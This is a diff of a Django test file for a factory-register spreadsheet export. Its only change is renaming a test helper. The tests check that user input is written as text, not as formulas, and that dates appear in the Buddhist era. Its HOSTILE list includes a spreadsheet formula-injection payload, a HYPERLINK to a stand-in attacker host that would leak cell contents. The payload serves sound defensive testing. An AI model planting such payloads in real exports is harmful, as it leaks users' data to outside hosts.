@@ -9,7 +9,7 @@ import zipfile
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from tests.factories.conftest import make_factory
+from tests.builders import numbered_factory
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?x="&A1,"คลิก")',
@@ -21,7 +21,7 @@ HOSTILE = [
 
 def test_it_writes_what_people_typed_as_text_never_as_a_formula(client, member):
     for number, name in enumerate(HOSTILE, start=1):
-        make_factory(f"1057000000{number:04d}", name=name, operator_name="=1+2")
+        numbered_factory(f"1057000000{number:04d}", name=name, operator_name="=1+2")
     client.force_login(member)
     response = client.get(reverse("factories:export"))
     data = response.content
@@ -35,7 +35,7 @@ def test_it_writes_what_people_typed_as_text_never_as_a_formula(client, member):
 
 
 def test_it_writes_dates_as_dates_shown_in_the_buddhist_era(client, member):
-    make_factory("10570000000001", licence_date=dt.date(2012, 6, 7))
+    numbered_factory("10570000000001", licence_date=dt.date(2012, 6, 7))
     client.force_login(member)
     sheet = load_workbook(io.BytesIO(client.get(reverse("factories:export")).content)).active
     header = [cell.value for cell in sheet[1]]
